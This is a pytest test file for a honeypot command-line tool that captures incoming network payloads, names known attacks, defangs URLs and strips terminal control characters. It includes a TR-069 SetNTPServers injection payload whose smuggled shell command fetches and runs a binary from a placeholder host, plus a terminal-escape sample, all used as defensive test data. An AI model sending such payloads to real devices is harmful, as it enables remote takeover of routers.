"""`varde catch` and `varde captures` as a person runs them."""

import csv
import hashlib
import io
import json
import os
import pwd
import shutil
import signal
import socket
import tempfile
import time
from collections import Counter
from collections.abc import Iterator
from pathlib import Path

import pytest
from cli_run import Up, as_nobody, refused, varde
from material import stored

from varde.app import privileges
from varde.model import VardeError
from varde.store import Store

ROOT_STAYS = ("--stay-root",) if os.geteuid() == 0 else ()
needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="only root can give up root's rights")
TR069 = (
    b"POST /UD/act?1 HTTP/1.1\r\nHost: 127.0.0.1:7547\r\nUser-Agent: =cmd|x\r\nSOAPAction: urn:dslforum-org:service:Time:1#SetNTPServers\r\n\r\n"
    b"<u:SetNTPServers><NewNTPServer1>`cd /tmp;wget http://192.0.2.1/1;chmod 777 1;./1`</NewNTPServer1></u:SetNTPServers>"
)
HOSTILE = b"\x1b]0;title\x07\x1b[31m\r\nhttp://198.51.100.7/\xe2\x80\xae.sh\x9b2J"


def free_port(kind: int = socket.SOCK_STREAM) -> int:
    with socket.socket(socket.AF_INET, kind) as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


def send(port: int, data: bytes, source: str = "127.0.0.1") -> None:
    with socket.create_connection(("127.0.0.1", port), source_address=(source, 0)) as connection:
        connection.sendall(data)


def counts(store: Store) -> dict[str, int]:
    """What the store's counters say, by outcome."""
    sums: Counter[str] = Counter()
    for row in stored(store, "counters").to_dicts():
        sums[row["outcome"]] += row["count"]
    return dict(sums)


def until_said(run: Up, words: str, times: int) -> None:
    for _ in range(9000):
        if run.said.count(words) >= times:
            return
        time.sleep(0.01)
    raise AssertionError(run.said)


def catching(home: Path, *arguments: str, **more: str) -> Up:
    run = Up(home, *arguments, *ROOT_STAYS, "--bind", "127.0.0.1", command="catch", **more)
    run.wait_for("catching on", 90)
    return run


@pytest.fixture(scope="module")
def caught(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, int, int, str]]:
    """A home whose store holds five captures; the TCP port, the UDP port, and what catch said."""
    home = tmp_path_factory.mktemp("caught")
    port, datagrams = free_port(), free_port(socket.SOCK_DGRAM)
    with catching(home, str(port), f"{datagrams}/udp", "--sensor", "edge", "--tz", "UTC") as run:
        for number, (data, source) in enumerate([(TR069, "127.0.0.1"), (TR069, "127.0.0.1"), (TR069, "127.9.9.9"), (HOSTILE, "127.0.0.2")]):
            send(port, data, source)
            until_said(run, " octets: ", number + 1)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            sender.sendto(b"\x17\x00\x03\x2a\x00\x00\x00\x00", ("127.0.0.1", datagrams))
        send(port, b"")
        until_said(run, " octets: ", 5)
        assert run.stop(signal.SIGINT) == 0
        yield home, port, datagrams, run.said


# ---- what catch says and stores ----


def test_each_capture_is_said_on_a_line_without_control_characters(caught: tuple[Path, int, int, str]) -> None:
    _, port, datagrams, said = caught
    lines = [line for line in said.splitlines() if " octets: " in line]
    assert sum(f"-> {port}/tcp {len(TR069)} octets: TR-069 SetNTPServers injection (" in line for line in lines) == 3
    assert sum(f"-> {datagrams}/udp 8 octets: NTP monlist (" in line for line in lines) == 1
    assert "captures: 5, " in said
    assert "1 came and sent nothing" in said
    assert not any(ord(c) < 32 and c != "\n" for c in said)


def test_captures_are_rows_of_the_table_with_what_they_are(caught: tuple[Path, int, int, str]) -> None:
    home, port, _, _ = caught
    rows = stored(Store(home / "store"), "captures").sort("offset").to_dicts()
    assert [row["known"] for row in rows].count("TR-069 SetNTPServers injection") == 3
    first = next(row for row in rows if row["known"] and row["proto"] == 6)
    assert (first["sensor"], first["dst_port"], first["length"], first["data"], first["form"], first["ended"]) == ("edge", port, len(TR069), TR069, "http", "closed")
    assert first["sha256"] == hashlib.sha256(TR069).hexdigest()
    assert first["src_addr"] == b"\x00" * 10 + b"\xff\xff" + bytes([127, 0, 0, 1])
    assert counts(Store(home / "store")) == {"lines": 6, "records": 5, "ignored": 1}


# ---- captures ----


def test_each_capture_is_in_its_days_partition(caught: tuple[Path, int, int, str]) -> None:
    days = {row["time"].date() for row in stored(Store(caught[0] / "store"), "captures").to_dicts()}
    assert set(Store(caught[0] / "store").days("captures")) == days


def test_the_table_lists_who_sent_what_and_what_it_is_known_as(caught: tuple[Path, int, int, str]) -> None:
    home, port, _, _ = caught
    done = varde(home, "captures", "--tz", "UTC")
    assert done.status == 0
    lines = done.out.splitlines()
    assert lines[0].split() == ["id", "time", "source", "cc", "port", "octets", "form", "what"]
    assert len(lines) == 6
    assert sum("TR-069 SetNTPServers injection" in line and f"{port}/tcp" in line for line in lines) == 3
    assert "\x1b" not in done.out


@pytest.mark.parametrize(("arguments", "number"), [([], 5), (["--src", "127.9.0.0/16"], 1), (["--limit", "2"], 2), (["--day", "today"], 5), (["--since", "1h"], 5)])
def test_json_has_what_was_asked_for(caught: tuple[Path, int, int, str], arguments: list[str], number: int) -> None:
    home, _, datagrams, _ = caught
    document = json.loads(varde(home, "captures", "--json", "--tz", "UTC", *arguments).out)
    assert len(document["captures"]) == number
    assert json.loads(varde(home, "captures", "--json", "--port", str(datagrams)).out)["captures"][0]["known"] == "NTP monlist"
    assert document["total"] == (5 if "--limit" in arguments else number)
    assert all(row["time"].endswith("Z") and row["sensor"] == "edge" for row in document["captures"])


def test_csv_has_no_formulas_and_reads_back(caught: tuple[Path, int, int, str]) -> None:
    home, _, _, _ = caught
    rows = list(csv.DictReader(io.StringIO(varde(home, "captures", "--csv", "-q").out)))
    assert len(rows) == 5
    assert {row["known"] for row in rows} == {"", "NTP monlist", "TR-069 SetNTPServers injection"}
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())


def test_one_capture_is_shown_with_all_a_person_wants_to_see(caught: tuple[Path, int, int, str]) -> None:
    home, port, _, _ = caught
    rows = json.loads(varde(home, "captures", "--json", "--src", "127.9.9.9").out)["captures"]
    done = varde(home, "captures", "--show", rows[0]["id"], "--tz", "UTC")
    for words in ("known as TR-069 SetNTPServers injection: ", "https://www.exploit-db.com/exploits/40740/", "was seen 3 times from 2 sources", f"on port {port}",
                  "hxxp://192[.]0[.]2[.]1/1", "  chmod 777 1", "agent: =cmd|x", "00000000  50 4f 53 54 20 2f 55 44  2f 61 63 74 3f 31 20 48  POST /UD /act?1 H"):  # fmt: skip
        assert words in done.out, words
    assert "http://192" not in done.out
    document = json.loads(varde(home, "captures", "--show", rows[0]["id"], "--json").out)
    assert bytes.fromhex(document["hex"]) == TR069
    assert document["seen"]["captures"] == 3
    assert document["commands"] == ["cd /tmp", "wget http://192.0.2.1/1", "chmod 777 1", "./1"]
    assert document["known_payload"]["reference"].startswith("https://")


def test_a_hostile_payload_reaches_the_terminal_as_text(caught: tuple[Path, int, int, str]) -> None:
    home, _, _, _ = caught
    done = varde(home, "captures", "--show", "last", "--src", "127.0.0.2")
    assert done.status == 0
    assert "not known" in done.out
    assert "hxxp://198[.]51[.]100[.]7/" in done.out
    assert not set(done.out) & {"\x1b", "\x07", "\x9b", "\u202e", "\r"}
    assert "the same payload was not seen at any other time" in done.out


def test_what_is_not_there_and_what_is_wrong_is_said(caught: tuple[Path, int, int, str], tmp_path: Path) -> None:
    home, _, _, _ = caught
    assert varde(tmp_path, "captures").status == 1
    assert varde(home, "captures", "--src", "203.0.113.0/24").status == 1
    assert varde(home, "captures", "--show", "abc").status == 1
    assert varde(tmp_path, "captures", "--show", "last").status == 1
    assert "is no capture. Write last, or the id" in refused(home, "captures", "--show", "nonsense")
    assert "is no capture" in refused(home, "captures", "--show", "f" * 40)
    assert "leave out --json and --show" in refused(home, "captures", "--csv", "--json")
    assert "is no address or network" in refused(home, "captures", "--src", "x")
    assert "is no day" in refused(home, "captures", "--day", "x")


# ---- what is wrong with catch ----


@pytest.mark.parametrize(
    ("arguments", "words"),
    [(["0"], "is no port"), (["http"], "is no port"), (["1-65535"], "more than the 1024"), (["7547", "--banner", "nothing.txt"], "cannot read the banner nothing.txt: no such file"),
     (["65000", "--bind", "192.0.2.1"], "no address of this machine")],
)  # fmt: skip
def test_a_wrong_switch_is_said_before_a_port_is_opened(tmp_path: Path, arguments: list[str], words: str) -> None:
    assert words in refused(tmp_path, "catch", *arguments, *ROOT_STAYS)


def test_a_long_banner_is_refused(tmp_path: Path) -> None:
    (tmp_path / "page.html").write_bytes(b"x" * 4097)
    assert "longer than 4096 octets" in refused(tmp_path, "catch", "65000", "--banner", "page.html", *ROOT_STAYS)


def test_a_taken_port_is_status_2_with_who_has_it(tmp_path: Path) -> None:
    with socket.create_server(("127.0.0.1", 0)) as taken:
        sentence = refused(tmp_path, "catch", str(taken.getsockname()[1]), "--bind", "127.0.0.1", *ROOT_STAYS)
    assert f"the port is taken by {Path('/proc/self/comm').read_text().strip()} (process {os.getpid()})" in sentence


# ---- ends of all kinds ----


def test_what_was_committed_survives_kill_9_and_the_next_run_goes_on(tmp_path: Path) -> None:
    port, store = free_port(), tmp_path / "store"
    with catching(tmp_path, str(port)) as run:
        send(port, b"first")
        for _ in range(9000):
            if Store(store).version("captures") >= 0 and Store(store).version("counters") >= 0:
                break
            time.sleep(0.01)
        send(port, b"second, not committed yet")
        until_said(run, "octets: ", 2)
        run.process.kill()
        run.process.wait()
    with catching(tmp_path, str(port)) as run:
        send(port, b"third")
        until_said(run, "octets: ", 1)
        assert run.stop() == 0
    assert stored(Store(store), "captures").sort("offset")["data"].to_list() == [b"first", b"third"]


def test_a_store_that_refuses_costs_nothing_while_it_comes_back(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from varde.app.commands import catch as module
    from varde.app.context import Context
    from varde.collect.catch import Catcher
    from varde.decode.payload.capture import Capture

    context = Context(tmp_path / "store", quiet=True)
    recorder = module.Recorder(context, module._origin(context))
    recorder.catcher = Catcher(recorder.take)
    for number in range(3):
        recorder.take(Capture(recorder.catcher.place(), "192.0.2.1", 1, "192.0.2.2", 7547, 6, 10**15, 10**15, 1, b"%d" % number))
    genuine = Store.append
    refusing = {"counters"}

    def append(self: Store, table: str, *given: object, **named: object) -> int:
        if table in refusing:
            raise VardeError(f"cannot write {table}: no space left on device.")
        return genuine(self, table, *given, **named)  # type: ignore[arg-type]

    monkeypatch.setattr(Store, "append", append)
    batch = recorder.batch()
    recorder.written(batch, recorder.try_to_write(batch))  # the captures are written, their counters are not
    refusing.clear()
    recorder.take(Capture(recorder.catcher.place(), "192.0.2.1", 1, "192.0.2.2", 7547, 6, 10**15, 10**15, 1, b"3"))
    recorder.finish()
    assert stored(context.store, "captures").sort("offset")["data"].to_list() == [b"0", b"1", b"2", b"3"]
    assert counts(context.store) == {"lines": 4, "records": 4}


def test_a_capture_that_comes_while_others_are_written_is_not_lost(tmp_path: Path) -> None:
    from varde.app.commands import catch as module
    from varde.app.context import Context
    from varde.collect.catch import Catcher
    from varde.decode.payload.capture import Capture

    context = Context(tmp_path / "store", quiet=True)
    recorder = module.Recorder(context, module._origin(context))
    recorder.catcher = Catcher(recorder.take)

    def come(data: bytes) -> None:
        recorder.take(Capture(recorder.catcher.place(), "192.0.2.1", 1, "192.0.2.2", 7547, 6, 10**15, 10**15, 1, data))

    come(b"before")
    batch = recorder.batch()
    come(b"meanwhile")
    recorder.written(batch, recorder.try_to_write(batch))
    assert [entry.data for entry in recorder._waiting] == [b"meanwhile"]
    come(b"after")
    recorder.finish()
    assert stored(context.store, "captures").sort("offset")["data"].to_list() == [b"before", b"meanwhile", b"after"]
    assert counts(context.store) == {"lines": 3, "records": 3}


def test_what_a_refusing_store_cannot_take_is_bounded_counted_and_said(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    from varde.app.commands import catch as module
    from varde.app.context import Context
    from varde.collect.catch import Catcher
    from varde.decode.payload.capture import Capture

    context = Context(tmp_path / "store", quiet=True)
    recorder = module.Recorder(context, module._origin(context))
    recorder.catcher = Catcher(recorder.take)
    monkeypatch.setattr(module, "WAITING_MAX", 100_000)
    for _ in range(10):
        recorder.take(Capture(recorder.catcher.place(), "192.0.2.1", 1, "192.0.2.2", 7547, 6, 10**15, 10**15, 50_000, b"x" * 50_000))
    assert (len(recorder._waiting), recorder.lost["store_refuses"]) == (2, 8)

    def append(self: Store, table: str, *given: object, **named: object) -> int:
        raise VardeError("no space left on device.")

    monkeypatch.setattr(Store, "append", append)
    for _ in range(2):
        batch = recorder.batch()
        recorder.written(batch, recorder.try_to_write(batch))
    assert capsys.readouterr().err.count("Captures wait in memory and are tried again") == 1
    with pytest.raises(VardeError, match=r"2 captures were not stored: no space left on device"):
        recorder.finish()
    monkeypatch.undo()
    recorder.finish()
    assert "8 captures lost, because the store took none for too long" in capsys.readouterr().err
    assert counts(context.store) == {"lines": 10, "records": 2, "reject:store_refuses": 8}


def test_a_disk_that_is_nearly_full_is_left_alone(tmp_path: Path) -> None:
    (tmp_path / "full.toml").write_text("[store]\ndisk_free_gb = 1000000\n")
    port = free_port()
    with catching(tmp_path, str(port), "--config", "full.toml") as run:
        send(port, b"x")
        until_said(run, "octets: ", 1)
        assert run.stop() == 2
        assert "1 captures were not stored: only " in run.said
    assert Store(tmp_path / "store").version("captures") == -1


# ---- root ----


@pytest.fixture
def public() -> Iterator[Path]:
    """A folder to which everybody finds the way: pytest's own are closed to other users again by every run that begins."""
    folder = Path(tempfile.mkdtemp(prefix="varde-test-"))
    folder.chmod(0o755)
    yield folder
    shutil.rmtree(folder)


@needs_root
def test_started_as_root_it_becomes_nobody_without_groups_and_the_store_is_nobodys(public: Path) -> None:
    port = free_port()
    with Up(public, str(port), "--bind", "127.0.0.1", command="catch") as run:
        run.wait_for("catching on", 90)
        status = dict(line.split(":\t", 1) for line in Path(f"/proc/{run.process.pid}/status").read_text().splitlines() if ":\t" in line)
        nobody = pwd.getpwnam("nobody")
        assert status["Uid"].split() == [str(nobody.pw_uid)] * 4
        assert status["Gid"].split() == [str(nobody.pw_gid)] * 4
        assert status["Groups"].strip() == ""
        assert int(status["CapEff"], 16) == 0
        send(port, b"x")
        until_said(run, "octets: ", 1)
        assert run.stop() == 0, run.said
    assert (public / "store").stat().st_uid == nobody.pw_uid
    assert stored(Store(public / "store"), "captures")["data"].to_list() == [b"x"]


@needs_root
def test_a_store_of_roots_own_is_not_given_away(public: Path) -> None:
    Store(public / "store")
    run = Up(public, str(free_port()), "--bind", "127.0.0.1", command="catch")
    assert run.process.wait(60) == 2
    assert "nobody cannot write" in run.said and "--store" in run.said
    assert (public / "store").stat().st_uid == 0


@needs_root
def test_the_owner_of_the_store_is_who_it_runs_on_as(tmp_path: Path) -> None:
    Store(tmp_path / "store")
    shutil.chown(tmp_path / "store", "daemon")
    assert privileges.user_for(tmp_path / "store", None).pw_name == "daemon"
    assert privileges.user_for(tmp_path / "store", "nobody").pw_name == "nobody"
    assert privileges.user_for(tmp_path / "none", None).pw_name == "nobody"


@needs_root
def test_users_that_are_none_or_root_are_refused(tmp_path: Path) -> None:
    assert "there is no user 'no-such-user'" in refused(tmp_path, "catch", str(free_port()), "--user", "no-such-user")
    assert "root has root's rights" in refused(tmp_path, "catch", str(free_port()), "--user", "root")


@pytest.mark.skipif(os.geteuid() == 0 and not shutil.which("setpriv"), reason="root needs setpriv to try without root's rights")
def test_without_root_low_ports_and_other_users_are_refused_with_what_to_do(public: Path) -> None:
    runner = as_nobody()
    assert "--user needs root's rights" in refused(public, "catch", str(free_port()), "--user", "daemon", runner=runner, VARDE_STORE=str(public / "s"))
    if int(Path("/proc/sys/net/ipv4/ip_unprivileged_port_start").read_text()) > 23:
        assert "cannot listen on 23/tcp: permission denied. Ports below 1024 need root" in refused(public, "catch", "23", runner=runner)
